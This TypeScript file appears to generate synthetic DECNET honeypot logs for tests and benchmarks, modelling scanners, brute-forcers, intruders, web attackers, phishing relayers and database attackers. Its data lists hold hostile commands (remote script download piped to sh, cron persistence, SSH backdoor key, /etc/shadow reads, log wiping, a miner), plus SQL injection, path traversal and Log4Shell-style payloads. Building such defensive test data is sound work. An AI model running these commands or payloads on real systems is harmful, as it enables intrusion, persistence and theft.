/**
 * A realistic DECNET log, generated: what a fleet of deckies writes about a
 * crowd of attackers, in DECNET's wire format (../shared/DECNET-EVENTS.md §0,
 * §1), for tests and benchmarks. Deterministic for a seed.
 *
 * Each attacker follows one persona, in proportions close to what a public
 * honeypot sees: most only scan; some brute-force logins; fewer get a shell
 * and run commands (both bash wire shapes), drop files and leave recorded
 * sessions; some attack web apps (requests with headers and credentials,
 * Caddy fingerprint and access lines); a few abuse the open mail relay
 * (stored mail with attachments); a few go after databases. The host's
 * sniffer and prober add fingerprint lines about them, and a little junk
 * (lines that are not RFC 5424) is mixed in, as real logs have.
 *
 * @example
 * ```ts
 * const {lines, attackers} = decnetCorpus({lines: 10_000, seed: 7})
 * writeFileSync('decnet.log', lines.join('\n') + '\n')
 * ```
 */
import {createHash} from 'node:crypto'

/** What to generate. */
export interface CorpusOptions {
  /** About this many lines (an attacker's sequence is never cut: a few more may come). */
  lines: number
  /** At least this many attackers, spread over the personas (default: one per 40 lines; more come when their events fall short of `lines`). */
  attackers?: number
  seed?: number
  /** The first event's time (default 2026-11-20T08:00:00Z); the log spans about a day per 100k lines. */
  start?: Date
  /** Share of junk lines (default 0.002). */
  junk?: number
}

/** The personas, and their share of attackers. */
export const PERSONAS = Object.freeze({scanner: 0.5, bruteforcer: 0.22, intruder: 0.1, web: 0.1, mailer: 0.04, database: 0.04})
export type Persona = keyof typeof PERSONAS

/** A generated log. */
export interface Corpus {
  /** In time order, no trailing newline. */
  lines: string[]
  /** Each attacker IP and its persona. */
  attackers: Map<string, Persona>
  /** How many junk lines are among `lines`. */
  junk: number
}

const DECKIES = ['decky-01', 'decky-02', 'decky-03', 'web-01', 'mx-01', 'db-01', 'cache-01'] as const
const USERS = ['root', 'admin', 'ubuntu', 'test', 'oracle', 'pi', 'postgres', 'user', 'git', 'support'] as const
const PASSWORDS = ['123456', 'password', 'admin', 'root', '12345678', 'qwerty', 'P@ssw0rd', 'raspberry', 'toor', 'changeme', 'Zz\\"]x', 'пароль'] as const
const COMMANDS = [
  'uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'whoami', 'id', 'cat /etc/passwd', 'w', 'ls -la /tmp',
  'wget http://198.51.100.9/x.sh -O /tmp/x.sh', 'chmod +x /tmp/x.sh', 'curl -fsSL http://198.51.100.9/m | sh', 'history -c',
  '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/x.sh") | crontab -', 'echo "ssh-rsa AAAAB3Nza backdoor" >> ~/.ssh/authorized_keys',
  'cat /etc/shadow', 'nproc', 'free -m', 'rm -rf /var/log/wtmp', 'ps aux | grep -v grep | grep xmrig', 'systemctl stop auditd',
  'echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh', 'ifconfig', 'netstat -antp', 'iptables -F', 'nohup ./xmrig -o pool:3333 &',
] as const
const PATHS = ['/', '/wp-login.php', '/.env', '/.git/config', '/admin', '/phpmyadmin/index.php', '/cgi-bin/../../../../etc/passwd', '/api/v1/users?id=1%27%20OR%201=1--', '/index.php?s=${jndi:ldap://198.51.100.9/a}', '/actuator/env'] as const
const AGENTS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'curl/8.5.0', 'python-requests/2.31.0', 'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'sqlmap/1.7.2#stable', 'Go-http-client/1.1'] as const
const OS_SIGNATURES = [
  {initial: 64, options: 'M,S,T,N,W', os: 'linux', window: 64_240, wscale: 7},
  {initial: 128, options: 'M,N,W,N,N,S', os: 'windows', window: 64_240, wscale: 8},
  {initial: 64, options: 'M,W,T,S,S', os: 'nmap', window: 1024, wscale: 10},
] as const

/** A seeded pseudo-random source (a linear congruential generator: fast, reproducible, not for secrets). */
class Random {
  #state: number

  constructor(seed: number) {
    this.#state = seed >>> 0 || 1
  }

  /** An integer in [0, n). */
  int(n: number): number {
    this.#state = (Math.imul(this.#state, 1_664_525) + 1_013_904_223) >>> 0
    return this.#state % n
  }

  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)]
  }

  chance(p: number): boolean {
    return this.int(1_000_000) < p * 1_000_000
  }
}

/** An SD value as DECNET escapes it (`\`, `"` and `]`). */
function sdValue(value: string): string {
  return value.replaceAll(/[\\"\]]/g, (c) => `\\${c}`)
}

function line(time: number, decky: string, app: string, eventType: string, fields: Readonly<Record<string, number | string>>, msg?: string, pri = 134): string {
  const sd = Object.entries(fields).map(([key, value]) => `${key}="${sdValue(String(value))}"`).join(' ')
  const stamp = new Date(time).toISOString().replace('Z', '000+00:00')
  return `<${pri}>1 ${stamp} ${decky} ${app} - ${eventType} ${sd === '' ? '-' : `[relay@55555 ${sd}]`}${msg === undefined ? '' : ` ${msg}`}`
}

function b64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64')
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex')
}

/** One attacker's events, each as [time, text]. */
type Events = Array<[number, string]>

function credential(principal: string, secret: string): Record<string, string> {
  return {principal, secret_b64: b64(secret), secret_printable: secret, username: principal}
}

function scanner(r: Random, ip: string, t: number, out: Events): void {
  const decky = r.pick(DECKIES)
  const signature = r.pick(OS_SIGNATURES)
  const hops = 8 + r.int(16)
  out.push([t, line(t, decky, 'sniffer', 'tcp_syn_fingerprint', {
    dscp: 0, dst_ip: '10.0.0.21', dst_port: 22, ecn: 0, has_sack: 'true', has_timestamps: 'true', hop_distance: hops, initial_ttl: signature.initial,
    ipid_class: 'unknown', ipid_samples: 1, isn_class: 'unknown', isn_samples: 1, mss: 1460, options_sig: signature.options, os_guess: signature.os,
    src_ip: ip, src_port: 40_000 + r.int(20_000), tos: 0, ttl: signature.initial - hops, window: signature.window, wscale: signature.wscale,
  })])
  const services = ['ssh', 'telnet', 'ftp', 'smb', 'rdp', 'vnc', 'mysql', 'redis']
  for (let i = 0, n = 2 + r.int(6); i < n; i++) {
    t += 200 + r.int(3000)
    const service = r.pick(services)
    out.push([t, line(t, r.pick(DECKIES), service, 'connect', {src_ip: ip, src_port: 40_000 + r.int(20_000)})])
  }

  if (r.chance(0.3)) {
    t += 300_000
    out.push([t, line(t, 'decnet-prober', 'prober', 'hassh_fingerprint', {
      compression_s2c: 'none', encryption_s2c: 'aes128-ctr', hassh_server_hash: sha256(ip).slice(0, 32), kex_algorithms: 'curve25519-sha256,ecdh-sha2-nistp256',
      mac_s2c: 'hmac-sha2-256', ssh_banner: 'SSH-2.0-OpenSSH_8.9p1', target_ip: ip, target_port: 22,
    }, `HASSH ${ip}:22 = ${sha256(ip).slice(0, 32)}`)])
  }
}

function bruteforcer(r: Random, ip: string, t: number, out: Events): number {
  const decky = r.pick(DECKIES)
  out.push([t, line(t, decky, 'sniffer', 'ssh_client_banner', {dst_ip: '10.0.0.21', dst_port: 22, src_ip: ip, src_port: 50_000 + r.int(10_000), ssh_version: 'SSH-2.0-libssh2_1.10.0'})])
  const tries = 5 + r.int(40)
  const cadence = 800 + r.int(4000)
  for (let i = 0; i < tries; i++) {
    t += cadence + r.int(400)
    const service = r.chance(0.8) ? 'auth-helper' : 'telnet'
    out.push([t, line(t, decky, service, service === 'telnet' ? 'login_failed' : 'auth_attempt', {...credential(r.pick(USERS), r.pick(PASSWORDS)), src_ip: ip})])
  }

  return t
}

function intruder(r: Random, ip: string, t: number, out: Events): void {
  t = bruteforcer(r, ip, t, out)
  const decky = r.pick(DECKIES)
  const start = t
  for (let i = 0, n = 3 + r.int(12); i < n; i++) {
    t += 2000 + r.int(15_000)
    const command = r.pick(COMMANDS)
    const stamp = new Date(t).toISOString().replace('Z', '000+00:00')
    // both bash shapes DECNET's rsyslog puts on the wire: double-wrapped, and plain with MSGID '-'
    out.push([t, r.chance(0.5)
      ? `<14>1 ${stamp} ${decky} 1 - - -  ${stamp} ${decky} bash - command [timeQuality tzKnown="1" isSynced="1"] CMD uid=0 user=root src=${ip} pwd=/root cmd=${command}`
      : `<14>1 ${stamp} ${decky} bash - - - CMD uid=0 user=root src=${ip} pwd=/root cmd=${command}`])
    if (command.startsWith('wget') || command.startsWith('curl')) {
      t += 500
      const body = `payload ${ip} ${i}`
      out.push([t, line(t, decky, 'ssh', 'file_captured', {
        attribution: 'pid-chain', orig_path: '/tmp/x.sh', sha256: sha256(body), size: body.length, src_ip: ip, src_port: 50_122, ssh_pid: 4301, ssh_user: 'root',
        stored_as: `${new Date(t).toISOString()}_${sha256(body).slice(0, 12)}_x.sh`, writer_comm: command.split(' ')[0], writer_pid: 4377, writer_uid: 0,
      })])
    }
  }

  t += 1000
  out.push([t, line(t, decky, 'sessrec', 'session_recorded', {
    bytes: 1000 + r.int(50_000), duration_s: ((t - start) / 1000).toFixed(3), service: 'ssh', sid: `3f9c2a1e-5b7d-4c1a-9e2f-${ip.replaceAll(/\D/g, '').padStart(12, '0').slice(-12)}`, src_ip: ip, truncated: 'false',
  })])
}

function web(r: Random, ip: string, t: number, out: Events): void {
  const agent = r.pick(AGENTS)
  const port = 50_000 + r.int(10_000)
  // Caddy writes the peer as Go's JoinHostPort does: `[v6]:port`
  const peer = ip.includes(':') ? `[${ip}]:${port}` : `${ip}:${port}`
  out.push([t, line(t, 'web-01', 'sniffer', 'tls_client_hello', {
    alpn: 'h2,http/1.1', dst_ip: '10.0.0.30', dst_port: 443, ja3: sha256(agent).slice(0, 32), ja4: `t13d1516h2_${sha256(agent).slice(0, 12)}_${sha256(ip).slice(0, 12)}`,
    raw_ciphers: '4865-4866-4867', raw_extensions: '0-23-65281', sni: 'web-01.example.net', src_ip: ip, src_port: port, tls_version: 'TLS 1.3',
  })])
  for (let i = 0, n = 2 + r.int(10); i < n; i++) {
    t += 300 + r.int(5000)
    const path = r.pick(PATHS)
    const login = path === '/wp-login.php'
    const headers = JSON.stringify({Host: 'web-01', 'User-Agent': agent, ...(login ? {'Content-Type': 'application/x-www-form-urlencoded'} : {})})
    const method = login ? 'POST' : 'GET'
    out.push([t - 1, line(t - 1, 'web-01', 'http', 'http_request_fingerprint', {
      accept_language: '', cookie: '', headers_ordered: JSON.stringify(login ? ['host', 'user-agent', 'content-type'] : ['host', 'user-agent']),
      ja4h: `${method.slice(0, 2)}11nn0000_0${login ? 3 : 2}_${sha256(agent).slice(0, 12)}_000000000000`, method, path, proto: 'h1', remote_addr: peer,
    })])
    const password = r.pick(PASSWORDS)
    out.push([t, line(t, 'web-01', 'http', 'request', {
      body: login ? `log=admin&pwd=${password}` : '', headers, method, path: path.split('?')[0], remote_addr: ip,
      ...(login ? {principal: 'admin', secret_b64: b64(password), secret_kind: 'plaintext', secret_printable: password} : {}),
    })])
    out.push([t + 20, line(t + 20, 'web-01', 'http', 'http_access', {bytes: 200 + r.int(4000), method, path, proto: 'h1', remote_addr: peer, status: login ? 403 : 404})])
  }
}

function mailer(r: Random, ip: string, t: number, out: Events): void {
  const from = r.chance(0.5) ? 'ceo@paypa1.example.net' : `billing@${r.pick(['micros0ft.example.com', 'bank-secure.example.org'])}`
  out.push([t, line(t, 'mx-01', 'smtp_relay', 'connect', {src: ip, src_port: 40_000 + r.int(20_000)})])
  out.push([t + 100, line(t + 100, 'mx-01', 'smtp_relay', 'ehlo', {domain: 'mail.example.net', src: ip})])
  for (let i = 0, n = 1 + r.int(5); i < n; i++) {
    t += 2000 + r.int(8000)
    const rcpt = `user${r.int(100)}@${r.pick(['corp.example.com', 'gmail.example', 'victim.example.org'])}`
    out.push([t, line(t, 'mx-01', 'smtp_relay', 'mail_from', {domain: from.split('@')[1], mail_from: from, src: ip, value: `<${from}>`})])
    out.push([t + 50, line(t + 50, 'mx-01', 'smtp_relay', 'rcpt_to', {src: ip, value: `<${rcpt}>`})])
    const msgId = `4F${(r.int(1e9)).toString(16).toUpperCase()}`
    const body = `Invoice ${msgId} http://198.51.100.9/pay`
    out.push([t + 200, line(t + 200, 'mx-01', 'smtp_relay', 'message_accepted', {body_bytes: body.length, mail_from: from, msg_id: msgId, rcpt_to: rcpt, src: ip, truncated: 0})])
    const attachment = {content_type: 'application/zip', encrypted: false, filename: 'invoice.zip', macro_indicator: true, sha256: sha256(body + 'zip'), size: 18_211}
    out.push([t + 210, line(t + 210, 'mx-01', 'smtp_relay', 'message_stored', {
      attachment_count: 1, attachments_json: JSON.stringify([attachment]), dkim_signed: 0, from_hdr: `"CEO" <${from}>`, mail_from: from, msg_id: msgId,
      rcpt_to: rcpt, sha256: sha256(body), size: body.length, spf_pass: 0, src: ip, stored_as: `${new Date(t).toISOString()}_${sha256(body).slice(0, 12)}_${msgId}.eml`,
      subject: 'Urgent: wire transfer today', to_hdr: rcpt, truncated: 0, urls_json: JSON.stringify(['http://198.51.100.9/pay']),
    })])
  }
}

function database(r: Random, ip: string, t: number, out: Events): void {
  out.push([t, line(t, 'db-01', 'mysql', 'connect', {connection_id: r.int(1000), src: ip, src_port: 40_000 + r.int(20_000)})])
  for (let i = 0, n = 2 + r.int(6); i < n; i++) {
    t += 1000 + r.int(3000)
    const user = r.pick(['root', 'admin', 'sa'])
    out.push([t, line(t, 'db-01', 'mysql', 'auth', {connection_id: r.int(1000), principal: user, secret_b64: b64(`scramble${i}`), secret_kind: 'mysql_native_password', secret_printable: Buffer.from(`scramble${i}`).toString('hex'), src: ip, username: user})])
  }

  for (const [cmd, args] of [['AUTH', "['foobared']"], ['CONFIG', "['SET', 'dir', '/root/.ssh']"], ['FLUSHALL', '[]'], ['INFO', '[]']] as const) {
    t += 500 + r.int(2000)
    out.push([t, line(t, 'cache-01', 'redis', 'command', {args, cmd, src: ip})])
  }
}

const JUNK = ['-- MARK --', 'sshd[4021]: Connection closed by 203.0.113.9 port 50122 [preauth]', '<999>garbage', 'kernel: \u001b[31mnot syslog\u001b[0m'] as const

/**
 * Generates a log.
 *
 * @example
 * ```ts
 * const {lines} = decnetCorpus({lines: 2000, seed: 1})
 * ```
 */
export function decnetCorpus(options: CorpusOptions): Corpus {
  const r = new Random(options.seed ?? 1)
  const count = options.attackers ?? Math.max(1, Math.round(options.lines / 40))
  const start = (options.start ?? new Date('2026-11-20T08:00:00Z')).getTime()
  const span = Math.max(3_600_000, options.lines * 864)
  const personas = Object.entries(PERSONAS) as Array<[Persona, number]>
  const attackers = new Map<string, Persona>()
  const events: Events = []
  for (let a = 0; events.length < options.lines || a < count; a++) {
    // 198.18.0.0/15 (RFC 2544's benchmarking range: 131k addresses) and, one in nine, IPv6 documentation addresses
    const address = a % 9 === 8 ? `2001:db8::${a.toString(16)}` : `198.${18 + ((a >> 16) & 1)}.${(a >> 8) & 0xff}.${a & 0xff}`
    let roll = r.int(1_000_000) / 1_000_000
    const persona = personas.find(([, share]) => (roll -= share) < 0)?.[0] ?? 'scanner'
    attackers.set(address, persona)
    const t = start + r.int(span)
    const generate = {bruteforcer, database, intruder, mailer, scanner, web}[persona]
    generate(r, address, t, events)
  }

  events.sort((a, b) => a[0] - b[0])
  const junkShare = options.junk ?? 0.002
  const lines: string[] = []
  let junk = 0
  for (const [, text] of events) {
    if (r.chance(junkShare)) {
      lines.push(r.pick(JUNK))
      junk++
    }

    lines.push(text)
  }

  return {attackers, junk, lines}
}
